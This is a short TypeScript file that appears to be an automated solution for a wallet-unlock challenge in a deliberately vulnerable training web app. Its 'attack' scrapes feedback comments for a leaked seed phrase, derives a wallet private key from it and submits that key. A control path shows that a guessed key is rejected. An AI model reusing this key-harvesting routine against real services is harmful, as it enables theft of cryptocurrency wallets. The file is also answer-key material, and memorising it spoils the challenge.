import type { Attacker } from '../attacker/attacker.js'
import { deriveWalletKey } from '../attacker/derive-wallet-key.js'
import { ensure, ensureStatus, proof } from '../proof.js'

/** A customer who knows no key learns that the token is locked. */
async function asksForToken(me: Attacker): Promise<void> {
  ensureStatus(await me.get('/rest/web3/nftUnlocked'), 'the state of the token')
  const guess = await me.post('/rest/web3/submitKey', { privateKey: `0x${'1'.repeat(64)}` })
  ensure(guess.status === 401, `A guessed key is answered with ${guess.status}`)
}

export const nftUnlockChallenge = proof({
  async attack(me) {
    const { data } = (await me.get('/api/Feedbacks')).json<{ data: { comment: string }[] }>()
    const leak = data.find(({ comment }) => comment.includes('/juicy-nft'))?.comment ?? ''
    const words = /(?:\b[a-z]+ ){11}[a-z]+\b/.exec(leak.slice(leak.indexOf('purpose')))?.[0] ?? ''
    await me.post('/rest/web3/submitKey', { privateKey: deriveWalletKey(words) })
  },
  honest: asksForToken,
})
